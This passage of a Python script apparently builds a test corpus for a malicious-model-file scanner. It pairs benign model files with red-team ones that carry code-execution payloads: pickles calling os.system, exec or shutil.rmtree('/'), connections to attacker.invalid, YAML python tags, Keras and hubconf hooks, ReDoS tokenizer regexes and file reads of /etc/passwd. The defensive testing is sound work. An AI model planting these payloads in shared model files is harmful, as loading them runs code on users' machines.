            dataset.attrs.update({"CLASS": b"VLARRAY", "PSEUDOATOM": b"object", "TITLE": b"", "VERSION": b"1.4"})

    return write


def torchscript_with_code(code: str) -> bytes:
    """A TorchScript archive whose `code/` holds this source (the rest as torch.jit.save lays it out)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", _proto(2) + _global("__torch__.m", "M", 2, False) + b")\x81}b.")
        archive.writestr("archive/code/__torch__/m.py", code)
        archive.writestr("archive/constants.pkl", pickle.dumps((), 2))
        archive.writestr("archive/version", "2\n")
    return buffer.getvalue()


TS_FROM_FILE = (
    "class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
    "  def forward(self: __torch__.m.M, x: Tensor) -> Tensor:\n"
    "    _0 = torch.from_file(\"/etc/hostname\", False, 4)\n    return torch.add(x, _0)\n"
)
TS_BENIGN = (
    "class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
    "  def forward(self: __torch__.m.M, x: Tensor) -> Tensor:\n    return torch.relu(torch.add(x, 1))\n"
)
LOADER_CODE = "import os\nos.system('echo corpus-payload-ran > /dev/null')\n"
# the pre-tokenizer regex Llama 3 / tiktoken-style tokenizers ship (Split), and a normalizer of BERT-like models
LLAMA3_SPLIT = (r"(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n]*"
                r"|\s*[\r\n]+|\s+(?!\S)|\s+")
GPT2_SPLIT = r"'s|'t|'re|'ve|'m|'ll|'d| ?\p{L}+| ?\p{N}+| ?[^\s\p{L}\p{N}]+|\s+(?!\S)|\s+"


def tokenizer_json(pre_tokenizer: str | None, normalizer: str | None) -> str:
    """tokenizer.json as the tokenizers library writes it (Split pre-tokenizer, Replace normalizer by regex)."""
    from tokenizers import Regex, Tokenizer, models, normalizers, pre_tokenizers

    tokenizer = Tokenizer(models.WordLevel({"[UNK]": 0, "a": 1}, unk_token="[UNK]"))
    if pre_tokenizer is not None:
        tokenizer.pre_tokenizer = pre_tokenizers.Sequence([
            pre_tokenizers.Split(Regex(pre_tokenizer), behavior="isolated"), pre_tokenizers.Digits(),
            pre_tokenizers.ByteLevel(add_prefix_space=False, use_regex=False)])
    if normalizer is not None:
        tokenizer.normalizer = normalizers.Sequence([normalizers.NFC(), normalizers.Replace(Regex(normalizer), " ")])
    return tokenizer.to_str()


def _sklearn_pipeline(memory: object) -> Callable[[Path], None]:
    """Pipeline pickled by pickle.dumps (never fitted or loaded here)."""
    def write(path: Path) -> None:
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import Pipeline
        from sklearn.preprocessing import StandardScaler

        path.write_bytes(pickle.dumps(Pipeline([("s", StandardScaler()), ("m", LogisticRegression())],
                                               memory=memory), 4))

    return write


def red_team_c_files() -> dict[str, bytes | Callable[[Path], None]]:
    """Set C classes: pickles carried in HDF5, loader configs that run repository code or a callable,
    ONNX data behind a URI, tokenizer regexes that hang the loader, TorchScript file ops, a deferred cache."""
    return {
        "pytables_object.h5": pytables_object_array(None),
        "pytables_object_gzip.hdf5": pytables_object_array("gzip"),
        "store_lzf.h5": pytables_object_array("lzf"),
        "diffusers_custom_component": _folder({
            "model_index.json": json.dumps({"_class_name": "DiffusionPipeline", "unet": ["my_unet", "MyUNet"]}),
            "unet/my_unet.py": LOADER_CODE}),
        "custom_generate_model": _folder({"config.json": json.dumps({"model_type": "c"}),
                                          "custom_generate/generate.py": LOADER_CODE}),
        "st_custom_module": _folder({
            "modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "custom_st.Pooler"}]),
            "custom_st.py": LOADER_CODE}),
        "nemo_target.nemo": tar_of({"./model_config.yaml": b"encoder:\n  _target_: builtins.exec\n"
                                                           b"  _args_: ['import os']\n"}, "gz"),
        "hydra_config_model": _folder({"config.yaml": "model:\n  _target_: subprocess.getoutput\n  _args_: [id]\n"}),
        "mlflow_loader_module": _folder({
            "MLmodel": "flavors:\n  python_function:\n    loader_module: c_loader\n    code: code\n",
            "code/c_loader.py": LOADER_CODE}),
        "uri_location.onnx": onnx_with_external("file:///etc/passwd"),
        "redos_pre_tokenizer": _folder({"tokenizer.json": json.dumps({
            "normalizer": None, "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(a+)+$"},
                                                  "behavior": "Isolated", "invert": False}})}),
        "redos_normalizer": _folder({"tokenizer.json": json.dumps({
            "normalizer": {"type": "Replace", "pattern": {"Regex": "(\\w+\\s?)*$"}, "content": " "},
            "pre_tokenizer": None})}),
        "ts_from_file.pt": torchscript_with_code(TS_FROM_FILE),
        "pipeline_memory_path.pkl": _sklearn_pipeline("/tmp/corpus-cache"),
    }


def benign_c_files() -> dict[str, bytes | Callable[[Path], None]]:
    """Set C twins that must pass: library configs, standard tokenizer regexes, a plain Pipeline."""
    return {
        "diffusers_pipeline": _folder({"model_index.json": json.dumps({
            "_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0",
            "unet": ["diffusers", "UNet2DConditionModel"], "text_encoder": ["transformers", "CLIPTextModel"],
            "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "image_encoder": [None, None]})}),
        "st_standard_modules": _folder({"modules.json": json.dumps([
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}])}),
        "mlflow_sklearn": _folder({"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"
                                              "    model_path: model.pkl\n    env: conda.yaml\n"}),
        "onnx_relative_data.onnx": onnx_with_external("weights.bin"),
        "llama3_tokenizer": _folder({"tokenizer.json": tokenizer_json(LLAMA3_SPLIT, " {2,}")}),
        "gpt2_split_tokenizer": _folder({"tokenizer.json": tokenizer_json(GPT2_SPLIT, None)}),
        "ts_plain.pt": torchscript_with_code(TS_BENIGN),
        "pipeline_no_memory.pkl": _sklearn_pipeline(None),
    }


# ---------------------------------------------------------------- red-team set D


def h5_attribute_pickles(attributes: dict[str, bytes], group: str | None = None) -> Callable[[Path], None]:
    """A PyTables-style HDF5 file whose root (or `group`) attributes hold these byte strings: PyTables unpickles
    a string attribute that is a pickle when the node's attributes are read. Written with h5py, never read back."""
    def write(path: Path) -> None:
        import h5py
        import numpy as np

        with h5py.File(path, "w") as h5:
            h5.attrs.update({"CLASS": b"GROUP", "PYTABLES_FORMAT_VERSION": b"2.1", "TITLE": b"", "VERSION": b"1.0"})
            node = h5.create_group(group) if group else h5
            for name, value in attributes.items():
                node.attrs[name] = np.bytes_(value)

    return write


def sqlitedict_file(values: dict[str, bytes], table: str = "unnamed") -> Callable[[Path], None]:
    """sqlitedict's layout: a table of (key TEXT PRIMARY KEY, value BLOB), each value a pickle it loads on read."""
    def write(path: Path) -> None:
        import sqlite3

        connection = sqlite3.connect(path)
        try:
            quoted = '"' + table.replace('"', '""') + '"'
            connection.execute(f"CREATE TABLE {quoted} (key TEXT PRIMARY KEY, value BLOB)")
            connection.executemany(f"INSERT INTO {quoted} VALUES (?, ?)", list(values.items()))
            connection.commit()
        finally:
            connection.close()

    return write


def dumb_shelf(values: list[tuple[str, bytes]], index: bool = True) -> Callable[[Path], None]:
    """A dbm.dumb shelf folder as shelve writes it: `model.dat` with each value at a 512-byte block and
    `model.dir` listing `'key', (pos, size)`; `index=False` leaves the `.dir` out."""
    def write(path: Path) -> None:
        path.mkdir(parents=True, exist_ok=True)
        data, lines = b"", []
        for key, value in values:
            data += b"\0" * (-len(data) % 512)
            lines.append(f"{key!r}, ({len(data)}, {len(value)})\n")
            data += value
        (path / "model.dat").write_bytes(data)
        if index:
            (path / "model.dir").write_text("".join(lines))

    return write


def arrow_with_extension(kind: str, pickled: bytes | None) -> Callable[[Path], None]:
    """A one-column table whose field is typed `arrow.py_extension_type` with this pickle as its metadata
    (what pyarrow's PyExtensionType wrote, CVE-2023-47248), as Parquet, Feather v2 or an IPC stream."""
    def write(path: Path) -> None:
        import pyarrow as pa
        import pyarrow.parquet as pq
        from pyarrow import feather, ipc

        metadata = None if pickled is None else {
            b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": pickled}
        schema = pa.schema([pa.field("embedding", pa.int64(), metadata=metadata)])
        table = pa.table({"embedding": [1, 2, 3]}, schema=schema)
        if kind == "parquet":
            pq.write_table(table, path)
        elif kind == "feather":
            feather.write_feather(table, path)
        else:
            with ipc.new_stream(str(path), schema) as writer:
                writer.write_table(table)

    return write


def keras_folder(config: dict) -> Callable[[Path], None]:
    """An unzipped `.keras` (keras.saving.load_model accepts the folder): config.json and metadata.json."""
    return _folder({"config.json": json.dumps(config),
                    "metadata.json": json.dumps({"keras_version": "3.5.0", "date_saved": "2024-01-01@00:00:00"})})


def _dcp_checkpoint(path: Path) -> None:
    """torch.distributed.checkpoint.save of a small state dict, single process (its `.metadata` is a pickle)."""
    import warnings

    import torch
    import torch.distributed.checkpoint as dcp

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # "assuming the intent is to save in a single process"
        dcp.save({"weight": torch.zeros(2, 2), "step": torch.tensor(3)}, checkpoint_id=str(path))


TS_SHARED_WRITE = (
    "class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
    "  def forward(self: __torch__.m.M, x: Tensor) -> Tensor:\n"
    "    _0 = torch.from_file(\"/tmp/corpus-mapped\", True, 4)\n    _1 = torch.fill_(_0, 0.)\n    return x\n"
)
_KERAS_LOSS_SYSTEM = {**keras_config_with({"module": "keras.layers", "class_name": "Dense",
                                           "config": {"name": "dense", "units": 1}}),
                      "compile_config": {"loss": {"module": "posix", "class_name": "function", "config": "system",
                                                  "registered_name": "system"}, "metrics": None}}
_KERAS_PLAIN = {**keras_config_with({"module": "keras.layers", "class_name": "Dense",
                                     "config": {"name": "dense", "units": 1}}),
                "compile_config": {"loss": "mean_squared_error", "metrics": ["mae"]}}


def red_team_d_files() -> dict[str, bytes | Callable[[Path], None]]:
    """Set D classes: YAML python tags, torch.hub's hubconf.py, unzipped .keras folders, pickled PyTables
    attributes, pickle-backed SQLite and dbm.dumb shelves, Arrow py_extension_type, a shared file mapping."""
    payload = call("os", "system", COMMAND, 2)
    return {
        "hparams.yaml": f"lr: 0.01\ncallback: !!python/object/apply:os.system\n- {COMMAND}\n".encode(),
        "config.yml": b"trainer: !!python/object/new:subprocess.Popen\n  args: [[sh, -c, id]]\n",
        "trainer_folder": _folder({"trainer.yaml": "activation: !!python/name:os.system\n"}),
        "tag_directive.yaml": b"%TAG !p! tag:yaml.org,2002:python/\n---\nhook: !p!object/apply:os.system [id]\n",
        "hub_import": _folder({"hubconf.py": "dependencies = ['torch']\n\n\ndef tiny():\n"
                                             "    return __import__('subprocess').getoutput('id')\n"}),
        "hub_plain": _folder({"hubconf.py": "dependencies = ['torch']\n\n\ndef tiny():\n    return None\n"}),
        "keras_dir_lambda": keras_folder(keras_config_with(_lambda_layer_config())),
        "keras_dir_loss": keras_folder(_KERAS_LOSS_SYSTEM),
        "root_attr.h5": h5_attribute_pickles({"USER_META": payload}),
        "group_attr.hdf5": h5_attribute_pickles({"index_class": call("subprocess", "getoutput", "id", 2)}, "df"),
        "proto0_attr.h5": h5_attribute_pickles({"encoding": call("posix", "system", COMMAND, 0)}, "data"),
        "features.sqlite": sqlitedict_file({"model": payload}),
        "embeddings.db": sqlitedict_file({"weights": payload}, table="embeddings"),
        "shelf_indexed": dumb_shelf([("meta", pickle.dumps({"version": 1}, 2)), ("model", payload)]),
        "shelf_no_index": dumb_shelf([("meta", pickle.dumps({"version": 1}, 2)), ("model", payload)], index=False),
        "features.parquet": arrow_with_extension("parquet", payload),
        "features.feather": arrow_with_extension("feather", payload),
        "vectors.arrows": arrow_with_extension("stream", payload),
        "ts_shared_write.pt": torchscript_with_code(TS_SHARED_WRITE),
    }


def benign_d_files() -> dict[str, bytes | Callable[[Path], None]]:
    """Set D twins that must pass: plain hparams, a Keras folder, PyTables text attributes, pickle stores of
    plain data, Arrow tables without extension types, a torch.distributed.checkpoint folder."""
    data = pickle.dumps({"lr": 0.01, "layers": [4, 8]}, 2)
    return {
        "hparams.yaml": b"lr: 0.01\nbatch_size: !!int 32\nname: !!str tiny\nbetas: [0.9, 0.999]\n",
        "keras_dir_plain": keras_folder(_KERAS_PLAIN),
        "pytables_attrs.h5": h5_attribute_pickles({"pandas_type": b"frame", "note": b"Trained on data."}, "df"),
        "store.sqlite": sqlitedict_file({"params": data}),
        "shelf_plain": dumb_shelf([("meta", data), ("params", pickle.dumps([1.0, 2.0], 4))]),
        "table.parquet": arrow_with_extension("parquet", None),
        "table.feather": arrow_with_extension("feather", None),
        "dcp_checkpoint": _dcp_checkpoint,
    }


# ---------------------------------------------------------------- the corpus


def malicious_files(out: Path, keras: bool) -> dict[str, Callable[[Path], None] | bytes]:
    files: dict[str, Callable[[Path], None] | bytes] = {}
    for protocol in range(6):
        files[f"os_system_p{protocol}.pkl"] = call("os", "system", COMMAND, protocol)
        files[f"posix_system_p{protocol}.pickle"] = call("posix", "system", COMMAND, protocol)
    files["nt_system.pkl"] = call("nt", "system", COMMAND, 2)
    for protocol in (4, 5):
        files[f"os_system_stack_global_p{protocol}.pkl"] = call("os", "system", COMMAND, protocol, stack_global=True)
        files[f"builtins_exec_stack_global_p{protocol}.pkl"] = call("builtins", "exec", "import os", protocol, True)
    files["subprocess_popen.pkl"] = call("subprocess", "Popen", "id", 2)
    files["subprocess_check_output.pkl"] = call("subprocess", "check_output", "id", 4, stack_global=True)
    files["builtins_eval.pkl"] = call("builtins", "eval", "__import__('os').system('id')", 2)
    files["builtins_exec.pkl"] = call("builtins", "exec", "import os", 3)
    files["py2_builtin_eval.pkl"] = call("__builtin__", "eval", "1", 0)
    files["builtins_compile_p1.pkl"] = call("builtins", "compile", "1", 1)
    files["getattr_import_module.pkl"] = getattr_trick("os", "system", COMMAND, 2)
    files["getattr_import_module_p4.pkl"] = getattr_trick("subprocess", "getoutput", "id", 4)
    files["operator_attrgetter.pkl"] = call("operator", "attrgetter", "system", 2)
    files["runpy_run_path.pkl"] = call("runpy", "run_path", "/tmp/x.py", 2)
    files["runpy_run_module.pkl"] = call("runpy", "_run_module_as_main", "http.server", 4, stack_global=True)
    files["importlib_import_module.pkl"] = call("importlib", "import_module", "os", 3)
    files["webbrowser_open.pkl"] = call("webbrowser", "open", "http://attacker.invalid", 2)
    files["socket_create_connection.pkl"] = call("socket", "create_connection", "attacker.invalid", 4, True)
    files["inst_os_system.pkl"] = inst("os", "system", COMMAND)
    files["obj_subprocess_popen.pkl"] = obj("subprocess", "Popen", "id")
    files["memo_stack_global.pkl"] = memo_stack_global("os", "system", COMMAND)
    files["dynamic_module_name.pkl"] = dynamic_module(COMMAND)
    files["nested_pickle_loads.pkl"] = nested_pickle_loads(call("os", "system", COMMAND, 2))
    files["numpy_testing_runstring.pkl"] = call("numpy.testing._private.utils", "runstring", "import os", 2)
    files["torch_load_from_bytes.pkl"] = call("torch.storage", "_load_from_bytes", "x", 2)
    files["shutil_rmtree.pkl"] = call("shutil", "rmtree", "/", 4, stack_global=True)
    files["trojan_then_dict.pkl"] = call_then_data("os", "system", COMMAND, 2)
    files["no_extension_payload"] = call("os", "system", COMMAND, 4, stack_global=True)
    files["weights.bin"] = call("posix", "system", COMMAND, 2)
    files["tokenizer.pickle"] = call_then_data("os", "system", COMMAND, 2)
    files["model.pt"] = torch_zip(call("posix", "system", COMMAND, 2))
    files["model_stack_global.pth"] = torch_zip(call("os", "system", COMMAND, 4, stack_global=True), "model")
    files["model_legacy.pt"] = call("os", "system", COMMAND, 2) + b"\x00" * 64
    files["nested.zip"] = zip_of({"inner.pt": torch_zip(call("subprocess", "Popen", "id", 2))})
    files["object_array.npy"] = npy_object(call("os", "system", COMMAND, 3))
    files["object_array_numpy.npy"] = npy_object_via_numpy
    files["arrays.npz"] = zip_of({"a.npy": npy_object(call("builtins", "eval", "1", 2))})
    files["payload.joblib"] = joblib_with_payload
    files["payload_compressed.joblib"] = lambda path: joblib_with_payload(path, compress=3)
    files["lambda.keras"] = keras_archive(keras_config_with(_lambda_layer_config()))
    files["custom_os_function.keras"] = keras_archive(
        keras_config_with({"module": "os", "class_name": "function", "config": "system", "registered_name": "function"})
    )
    files["lambda.h5"] = lambda path: h5_with_config(path, keras_config_with(_lambda_layer_config()))
    files.update(red_team_files())
    if keras:
        files["keras_lambda_real.keras"] = lambda path: _real_keras(path, with_lambda=True)
        files["keras_lambda_real.h5"] = lambda path: _real_keras(path, with_lambda=True)
    return files


def benign_files(out: Path, keras: bool) -> dict[str, Callable[[Path], None] | bytes]:
    files: dict[str, Callable[[Path], None] | bytes] = {}
    plain = {"vocab": {"hello": 1, "world": 2}, "labels": ["billing", "shipping"], "size": 2.5, "ok": True}
    for protocol in range(6):
        files[f"plain_dict_p{protocol}.pkl"] = pickle.dumps(plain, protocol=protocol)
    files["ordered_dict.pkl"] = _ordered_dict_pickle
    files["tokenizer_word_index.pickle"] = pickle.dumps({"word_index": {f"w{i}": i for i in range(50)}}, protocol=4)
    files["state_dict.pt"] = _torch_state_dict
    files["state_dict_legacy.pt"] = lambda path: _torch_state_dict(path, legacy=True)
    files["tensor.pth"] = _torch_tensor
    files["array.npy"] = _numpy_array
    files["arrays.npz"] = _numpy_npz
    files["array_pickled.pkl"] = _numpy_pickled
    files["logistic.joblib"] = lambda path: _sklearn(path, "logistic", 0)
    files["tree.joblib"] = lambda path: _sklearn(path, "tree", 0)
    files["forest_compressed.joblib"] = lambda path: _sklearn(path, "forest", 3)
    files["pipeline.pkl"] = lambda path: _sklearn(path, "pipeline", -1)
    files["weights.safetensors"] = _safetensors
    files["tokenizer.json"] = json.dumps({"config": {"num_words": 100}, "word_index": {"a": 1}}).encode()
    files["clean_config.keras"] = keras_archive(
        keras_config_with({"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2}})
    )
    files["clean_config.h5"] = lambda path: h5_with_config(
        path, keras_config_with({"module": "keras.layers", "class_name": "Dense", "config": {"name": "d"}})
    )
    files.update(library_saver_files())
    if keras:
        files["keras_real.keras"] = lambda path: _real_keras(path, with_lambda=False)
        files["keras_real.h5"] = lambda path: _real_keras(path, with_lambda=False)
    return files


COMMON_ESTIMATORS = (
    "LogisticRegression", "LinearRegression", "Ridge", "Lasso", "SGDClassifier", "RandomForestClassifier",
    "RandomForestRegressor", "GradientBoostingClassifier", "HistGradientBoostingClassifier", "ExtraTreesClassifier",
    "DecisionTreeClassifier", "SVC", "KNeighborsClassifier", "GaussianNB", "MultinomialNB", "KMeans", "PCA",
    "StandardScaler", "OneHotEncoder", "MLPClassifier", "TfidfVectorizer", "FunctionTransformer",
    "ColumnTransformer", "LabelEncoder", "Pipeline", "CalibratedClassifierCV",
)


@functools.cache  # fitted once per run: several files save the same estimator with different savers
def fitted_estimator(name: str) -> object:
    """scikit-learn's common estimators and transformers, fitted on a tiny synthetic set."""
    import numpy as np
    import pandas as pd
    from sklearn import (
        calibration,
        cluster,
        compose,
        decomposition,
        ensemble,
        feature_extraction,
        linear_model,
        naive_bayes,
        neighbors,
        neural_network,
        pipeline,
        preprocessing,
        svm,
        tree,
    )

    rng = np.random.default_rng(0)
    features = rng.random((60, 4))
    labels = (features[:, 0] > 0.5).astype(int)
    texts = ["refund my order", "where is my parcel", "cancel the subscription"] * 20
    makers = {
        "LogisticRegression": lambda: linear_model.LogisticRegression().fit(features, labels),
        "LinearRegression": lambda: linear_model.LinearRegression().fit(features, features[:, 1]),
        "Ridge": lambda: linear_model.Ridge().fit(features, features[:, 1]),
        "Lasso": lambda: linear_model.Lasso().fit(features, features[:, 1]),
        "SGDClassifier": lambda: linear_model.SGDClassifier(random_state=0).fit(features, labels),
        "RandomForestClassifier": lambda: ensemble.RandomForestClassifier(3, random_state=0).fit(features, labels),
        "RandomForestRegressor": lambda: ensemble.RandomForestRegressor(3, random_state=0).fit(features, features[:, 1]),
        "GradientBoostingClassifier": lambda: ensemble.GradientBoostingClassifier(n_estimators=3).fit(features, labels),
        "HistGradientBoostingClassifier": lambda: ensemble.HistGradientBoostingClassifier(max_iter=3).fit(
            features, labels),
        "ExtraTreesClassifier": lambda: ensemble.ExtraTreesClassifier(3, random_state=0).fit(features, labels),
        "DecisionTreeClassifier": lambda: tree.DecisionTreeClassifier(random_state=0).fit(features, labels),
        "SVC": lambda: svm.SVC().fit(features, labels),
        "KNeighborsClassifier": lambda: neighbors.KNeighborsClassifier().fit(features, labels),
        "GaussianNB": lambda: naive_bayes.GaussianNB().fit(features, labels),
        "MultinomialNB": lambda: naive_bayes.MultinomialNB().fit(features, labels),
        "KMeans": lambda: cluster.KMeans(2, n_init=1, random_state=0).fit(features),
        "PCA": lambda: decomposition.PCA(2).fit(features),
        "StandardScaler": lambda: preprocessing.StandardScaler().fit(features),
        "OneHotEncoder": lambda: preprocessing.OneHotEncoder().fit([["a"], ["b"]]),
        "MLPClassifier": lambda: neural_network.MLPClassifier(max_iter=5, random_state=0).fit(features, labels),
        "TfidfVectorizer": lambda: feature_extraction.text.TfidfVectorizer().fit(texts),
        "FunctionTransformer": lambda: preprocessing.FunctionTransformer(np.log1p).fit(features),
        "ColumnTransformer": lambda: compose.ColumnTransformer(
            [("num", preprocessing.StandardScaler(), compose.make_column_selector(dtype_include=np.number))]
        ).fit(pd.DataFrame(features, columns=list("abcd"))),
        "LabelEncoder": lambda: preprocessing.LabelEncoder().fit(["billing", "shipping", "refund"]),
        "Pipeline": lambda: pipeline.make_pipeline(feature_extraction.text.TfidfVectorizer(),
                                                   linear_model.LogisticRegression()).fit(texts, [0, 1, 0] * 20),
        "CalibratedClassifierCV": lambda: calibration.CalibratedClassifierCV(cv=2).fit(features, labels),
        "CalibratedClassifierCV_isotonic": lambda: calibration.CalibratedClassifierCV(
            method="isotonic", cv=2).fit(features, labels),
    }
    return makers[name]()


def library_saver_files() -> dict[str, Callable[[Path], None] | bytes]:
    """Benign files written by the libraries' own savers (pickle, joblib plain and compressed, skops,
    pandas, numpy, torch, TorchScript) and by hand for formats without a saver here (GGUF, ONNX)."""
    import warnings

    warnings.filterwarnings("ignore")
    files: dict[str, Callable[[Path], None] | bytes] = {}
    for name in COMMON_ESTIMATORS:
        files[f"sk_{name}.joblib"] = lambda path, n=name: _joblib_dump(fitted_estimator(n), path, 0)
        files[f"sk_{name}_zlib.joblib"] = lambda path, n=name: _joblib_dump(fitted_estimator(n), path, 3)
        files[f"sk_{name}.pkl"] = lambda path, n=name: path.write_bytes(pickle.dumps(fitted_estimator(n), protocol=5))
    for name in ("LogisticRegression", "LabelEncoder", "HistGradientBoostingClassifier"):
        files[f"sk_{name}_gz.joblib"] = lambda path, n=name: _joblib_dump(fitted_estimator(n), path, ("gzip", 3))
        files[f"sk_{name}_xz.joblib"] = lambda path, n=name: _joblib_dump(fitted_estimator(n), path, ("xz", 3))
        files[f"sk_{name}_p0.joblib"] = lambda path, n=name: _joblib_dump(fitted_estimator(n), path, 0, 0)
        files[f"sk_{name}.skops"] = lambda path, n=name: _skops_dump(fitted_estimator(n), path)
    files["dataframe.pkl"] = _pandas_to_pickle
    files["strings.npy"] = lambda path: _numpy_save(path, "strings")
    files["strings_array.joblib"] = lambda path: _joblib_dump(_numpy_value("strings"), path, 0)
    files["records.npy"] = lambda path: _numpy_save(path, "records")
    files["state_dict_p0_legacy.pt"] = lambda path: _torch_state_dict_proto(path, 2)
    files["module_scripted.pt"] = _torchscript
    files["optimizer_state.pt"] = _torch_optimizer
    files["model.gguf"] = gguf_bytes({"general.architecture": "llama", "tokenizer.chat_template": (
        "{% set ns = namespace(system=false) %}{% for m in messages %}{% if m['role'] == 'system' %}"
        "{% set ns.system = true %}{% endif %}{{ '<|im_start|>' + m['role'] + '\n' + m['content'] }}{% endfor %}"
        "{% if add_generation_prompt %}{{ raise_exception('x') if false }}{% endif %}")})
    files["legacy_torch_tar.pt"] = torch_tar(pickle.dumps([], protocol=2))
    # a SentencePiece tokenizer.model (protobuf: pieces with scores) and a TensorFlow graph of plain maths
    files["tokenizer.model"] = b"".join(_pb_field(1, _pb_field(1, piece) + b"\x15" + struct.pack("<f", -1.0))
                                        for piece in (b"<unk>", b"\xe2\x96\x81hello", b"\xe2\x96\x81world"))
    files["graph.pb"] = _pb_field(1, _pb_field(1, b"add") + _pb_field(2, b"AddV2"))
    files["model.onnx"] = onnx_with_external(None)
    files["model_external.onnx"] = onnx_with_external("weights.bin")
    files["tokenizer_config.json"] = json.dumps({"tokenizer_class": "BertTokenizer", "do_lower_case": True,
                                                 "model_max_length": 512}).encode()
    files["hf_tokenizer.json"] = json.dumps({"version": "1.0", "model": {"type": "WordPiece", "vocab": {"[PAD]": 0}},
                                             "normalizer": {"type": "BertNormalizer"}}).encode()
    files["special_tokens_map.json"] = json.dumps({"pad_token": "[PAD]", "unk_token": "[UNK]"}).encode()
    files["hf_config.json"] = json.dumps({"model_type": "bert", "architectures": ["BertModel"],
                                          "hidden_size": 8}).encode()
    files["dataframe.pkl.zst"] = lambda path: _pandas_to_pickle(path, "zstd")
    files["tensor_pickled.pkl"] = lambda path: _torch_pickled(path, "tensor")
    files["module_pickled.pkl"] = lambda path: _torch_pickled(path, "module")
    files["big_tensor_pickled.pkl"] = lambda path: _torch_pickled(path, "big")
    files["sk_CalibratedClassifierCV_isotonic.joblib"] = lambda path: _joblib_dump(
        fitted_estimator("CalibratedClassifierCV_isotonic"), path, 3)
    files.update(benign_b_files())
    return files


def _torch_pickled(path: Path, kind: str) -> None:
    """`pickle.dumps` of torch objects: torch embeds a whole torch.save file per storage as bytes."""
    import torch

    value = {
        "tensor": lambda: torch.arange(6, dtype=torch.float32),
        "module": lambda: torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2)),
        "big": lambda: torch.zeros(40_000),  # longer than the bytes a walk keeps inline
    }[kind]()
    path.write_bytes(pickle.dumps(value))


def _joblib_dump(value: object, path: Path, compress: object, protocol: int | None = None) -> None:
    import joblib

    joblib.dump(value, path, compress=compress, protocol=protocol)


def _skops_dump(value: object, path: Path) -> None:
    try:
        import skops.io
    except ImportError:  # skops is optional: the file is then a plain joblib one
        _joblib_dump(value, path, 0)
        return
    skops.io.dump(value, path)


def _numpy_value(kind: str) -> object:
    import numpy as np

    if kind == "strings":
        return np.array(["billing", "shipping", "refund"])
    return np.zeros(3, dtype=[("x", "<f8"), ("label", "<U8")])


def _numpy_save(path: Path, kind: str) -> None:
    import numpy as np

    with path.open("wb") as handle:
        np.save(handle, _numpy_value(kind))


def _pandas_to_pickle(path: Path, compression: str = "infer") -> None:
    import pandas as pd

    frame = pd.DataFrame({"a": [1, 2], "b": ["x", "y"], "c": pd.to_datetime(["2020-01-01", "2021-01-01"]),
                          "d": pd.Categorical(["u", "v"]), "e": [1.5, None],
                          "paris": pd.date_range("2020-01-01", periods=2, tz="Europe/Paris"),
                          "flag": pd.array([True, None], dtype="boolean"), "span": pd.interval_range(0, 2),
                          "sparse": pd.arrays.SparseArray([0, 1]), "wait": pd.to_timedelta([1, 2], unit="s")},
                         index=pd.timedelta_range("1D", periods=2))
    frame.to_pickle(path, compression=compression)


def _torch_state_dict_proto(path: Path, protocol: int) -> None:
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    torch.save(model.state_dict(), path, _use_new_zipfile_serialization=False, pickle_protocol=protocol)


def _torchscript(path: Path) -> None:
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    torch.jit.save(torch.jit.script(model), str(path))


def _torch_optimizer(path: Path) -> None:
    import torch

    model = torch.nn.Linear(4, 2)
    torch.save(torch.optim.Adam(model.parameters()).state_dict(), path)


def _ordered_dict_pickle(path: Path) -> None:
    from collections import OrderedDict

    path.write_bytes(pickle.dumps(OrderedDict(a=1, b=[1, 2]), protocol=2))


def _torch_state_dict(path: Path, legacy: bool = False) -> None:
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    torch.save(model.state_dict(), path, _use_new_zipfile_serialization=not legacy)


def _torch_tensor(path: Path) -> None:
    import torch

    torch.save(torch.arange(12, dtype=torch.float32).reshape(3, 4), path)


def _numpy_array(path: Path) -> None:
    import numpy as np

    np.save(path, np.linspace(0, 1, 50).reshape(5, 10))


def _numpy_npz(path: Path) -> None:
    import numpy as np

    with path.open("wb") as handle:
        np.savez_compressed(handle, a=np.arange(10), b=np.eye(3))


def _numpy_pickled(path: Path) -> None:
    import numpy as np

    path.write_bytes(pickle.dumps({"w": np.ones((2, 2)), "i": np.int64(3)}, protocol=5))


def _sklearn(path: Path, kind: str, compress: int) -> None:
    import joblib
    import numpy as np
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(0)
    features = rng.random((40, 4))
    labels = (features[:, 0] > 0.5).astype(int)
    model = {
        "logistic": lambda: LogisticRegression(),
        "tree": lambda: DecisionTreeClassifier(random_state=0),
        "forest": lambda: RandomForestClassifier(n_estimators=3, random_state=0),
        "pipeline": lambda: make_pipeline(StandardScaler(), LogisticRegression()),
    }[kind]().fit(features, labels)
    if compress < 0:
        path.write_bytes(pickle.dumps(model, protocol=4))
    else:
        joblib.dump(model, path, compress=compress)


def _safetensors(path: Path) -> None:
